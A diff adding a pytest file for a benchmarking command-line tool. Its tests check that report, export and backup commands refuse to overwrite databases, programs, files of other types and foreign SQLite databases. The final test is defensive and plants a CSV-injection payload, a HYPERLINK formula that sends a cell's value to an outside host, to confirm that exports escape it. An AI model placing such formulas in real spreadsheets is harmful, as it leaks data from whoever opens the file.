@@ -1,0 +1,155 @@
+"""A command replaces files of the kind that it writes, and no others."""
+
+from __future__ import annotations
+
+import csv
+import shutil
+import sqlite3
+from contextlib import closing
+from pathlib import Path
+
+import pytest
+from support.pages import add_run
+
+from orthobench.errors import UsageError
+from orthobench.store import MetricRow, open_store
+from orthobench.system.files import refuse_file
+from orthobench.system.kinds import KINDS, refuse_other_kinds
+
+OWN = {
+    "HTML": b"<!DOCTYPE html><title>t</title>",
+    "XML": b"<?xml version='1.0'?><testsuites/>",
+    "SVG": b"<svg xmlns='http://www.w3.org/2000/svg'/>",
+    "PNG": b"\x89PNG\r\n\x1a\n\0\0",
+    "PDF": b"%PDF-1.7\n\0",
+    "Parquet": b"PAR1\0\0",
+    "JSON": b'{"a": 1}',
+    "CSV": b"a,b\n1,2\n",
+    "Markdown": b"# t\n",
+    "LaTeX": b"\\begin{tabular}\n",
+}
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_kind_replaces_its_own_files_and_no_others(kind, tmp_path):
+    refuse_other_kinds(tmp_path / "missing", kind)
+    (tmp_path / "empty").touch()
+    refuse_other_kinds(tmp_path / "empty", kind)
+    for other, content in OWN.items():
+        file = tmp_path / f"file{KINDS[other].suffix}"
+        file.write_bytes(content)
+        if other == kind:
+            refuse_other_kinds(file, kind)
+        else:
+            with pytest.raises(
+                UsageError, match=f"refusing to overwrite .*: it is not a file of type {kind}; name another"
+            ):
+                refuse_other_kinds(file, kind)
+
+
+def test_svg_with_an_xml_declaration_is_recognised(tmp_path):
+    file = tmp_path / "figure.svg"
+    file.write_bytes(b"<?xml version='1.0'?>\n<svg xmlns='http://www.w3.org/2000/svg'/>")
+    refuse_other_kinds(file, "SVG")
+    with pytest.raises(UsageError, match="not a file of type XML"):
+        refuse_other_kinds(file, "XML")
+
+
+def test_device_and_file_in_place_of_a_folder_are_refused(tmp_path):
+    with pytest.raises(UsageError, match="is not a regular file"):
+        refuse_other_kinds(Path("/dev/null"), "HTML")
+    (tmp_path / "file").touch()
+    with pytest.raises(UsageError, match="is a file and is left as it is: name a folder"):
+        refuse_file(tmp_path / "file")
+    refuse_file(tmp_path)
+    refuse_file(tmp_path / "missing")
+
+
+BASELINE = '[[run]]\ntask = "adding"\nmodel = "rnn"\nsettings = { epochs = 1 }\n'
+
+
+@pytest.fixture(scope="module")
+def filled(tmp_path_factory) -> Path:
+    """A database with a run."""
+    database = tmp_path_factory.mktemp("filled") / "results.db"
+    with open_store(str(database), create=True) as store:
+        add_run(store)
+    return database
+
+
+COMMANDS = [
+    ("report", "--html", "-o"),
+    ("report", "--format", "csv", "-o"),
+    ("report", "--format", "json", "-o"),
+    ("report", "--format", "markdown", "-o"),
+    ("report", "--format", "latex", "-o"),
+    ("report", "--format", "reproduction", "-o"),
+    ("report", "--format", "png", "-o"),
+    ("study", "orthogonality", "--preset", "quick", "-o"),
+    ("check", "base.toml", "--junit"),
+    ("check", "base.toml", "--markdown"),
+    ("db", "export"),
+    ("db", "backup"),
+]
+
+
+@pytest.mark.parametrize("target", ["results.db", "notes.py"])
+@pytest.mark.parametrize("command", COMMANDS, ids=[" ".join(command) for command in COMMANDS])
+def test_no_command_replaces_a_database_or_a_program(orthobench, filled, tmp_path, command, target):
+    shutil.copy(filled, tmp_path / "results.db")
+    (tmp_path / "notes.py").write_text("# my work of years\n")
+    (tmp_path / "base.toml").write_text(BASELINE)
+    before = (tmp_path / target).read_bytes()
+    refused = orthobench(*command, target)
+    assert refused.code == 2, refused.out
+    assert refused.err.startswith("error: ")
+    assert refused.err.count("\n") == 1
+    assert (tmp_path / target).read_bytes() == before
+
+
+def test_report_is_replaced_by_the_next_one(orthobench, filled, tmp_path):
+    """Every file is another one after a second run has been added, except tables without rows."""
+    shutil.copy(filled, tmp_path / "results.db")
+    contents = []
+    for _ in range(2):
+        assert orthobench("report", "--html", "-o", "page.html").code == 0
+        assert orthobench("report", "--format", "csv", "-o", "table.csv").code == 0
+        assert orthobench("db", "export", "out").code == 0
+        files = [tmp_path / "page.html", tmp_path / "table.csv", *sorted((tmp_path / "out").iterdir())]
+        contents.append({file.name: file.read_bytes() for file in files})
+        with open_store(str(tmp_path / "results.db")) as store:
+            add_run(store, seed=len(contents))
+    before, after = contents
+    assert before.keys() == after.keys()
+    assert [name for name in before if before[name] == after[name]] == ["segments.csv", "weights.csv"]
+
+
+@pytest.mark.parametrize("command", [("run", "adding", "rnn"), ("sweep", "adding", "--models", "rnn"), ("db", "merge")])
+def test_database_of_another_program_is_refused_and_unchanged(orthobench, filled, tmp_path, command, tiny_options):
+    other = tmp_path / "other.db"
+    with closing(sqlite3.connect(other)) as connection, connection:
+        connection.execute("CREATE TABLE bookmarks (url TEXT)")
+    before = other.read_bytes()
+    shutil.copy(filled, tmp_path / "source.db")
+    options = ["source.db"] if command == ("db", "merge") else tiny_options
+    refused = orthobench(*command, *options, "--db", "other.db")
+    assert refused.code == 2
+    assert "other.db is a database of another program (it has a table bookmarks) and is left as it is" in refused.err
+    assert other.read_bytes() == before
+    assert not list(tmp_path.glob("other.db-*"))
+
+
+def test_no_cell_of_a_table_is_a_spreadsheet_formula(tmp_path, orthobench):
+    formula = '=HYPERLINK("http://example.org/?x="&A1,"click")'
+    with open_store(str(tmp_path / "r.db"), create=True) as store:
+        key = add_run(store, "lstm", message=formula)
+        store.tag([key], ["+tag"])
+        run = store.find(key)
+        store.log(run.id, [MetricRow("test", "@metric", 1, 4, -0.5)], [], {})
+    assert orthobench("db", "export", "out", "--db", "r.db", "--format", "csv", "--vectors").code == 0
+    assert orthobench("report", "--db", "r.db", "--format", "csv", "-o", "report.csv").code == 0
+    files = [*(tmp_path / "out").iterdir(), tmp_path / "report.csv"]
+    cells = [cell for file in files for row in csv.reader(file.read_text("utf-8").splitlines()) for cell in row]
+    assert f"'{formula}" in cells
+    assert {"'+tag", "'@metric", "-0.5"} <= set(cells)
+    assert not [cell for cell in cells if cell[:1] in "=+@\t\r" and cell]
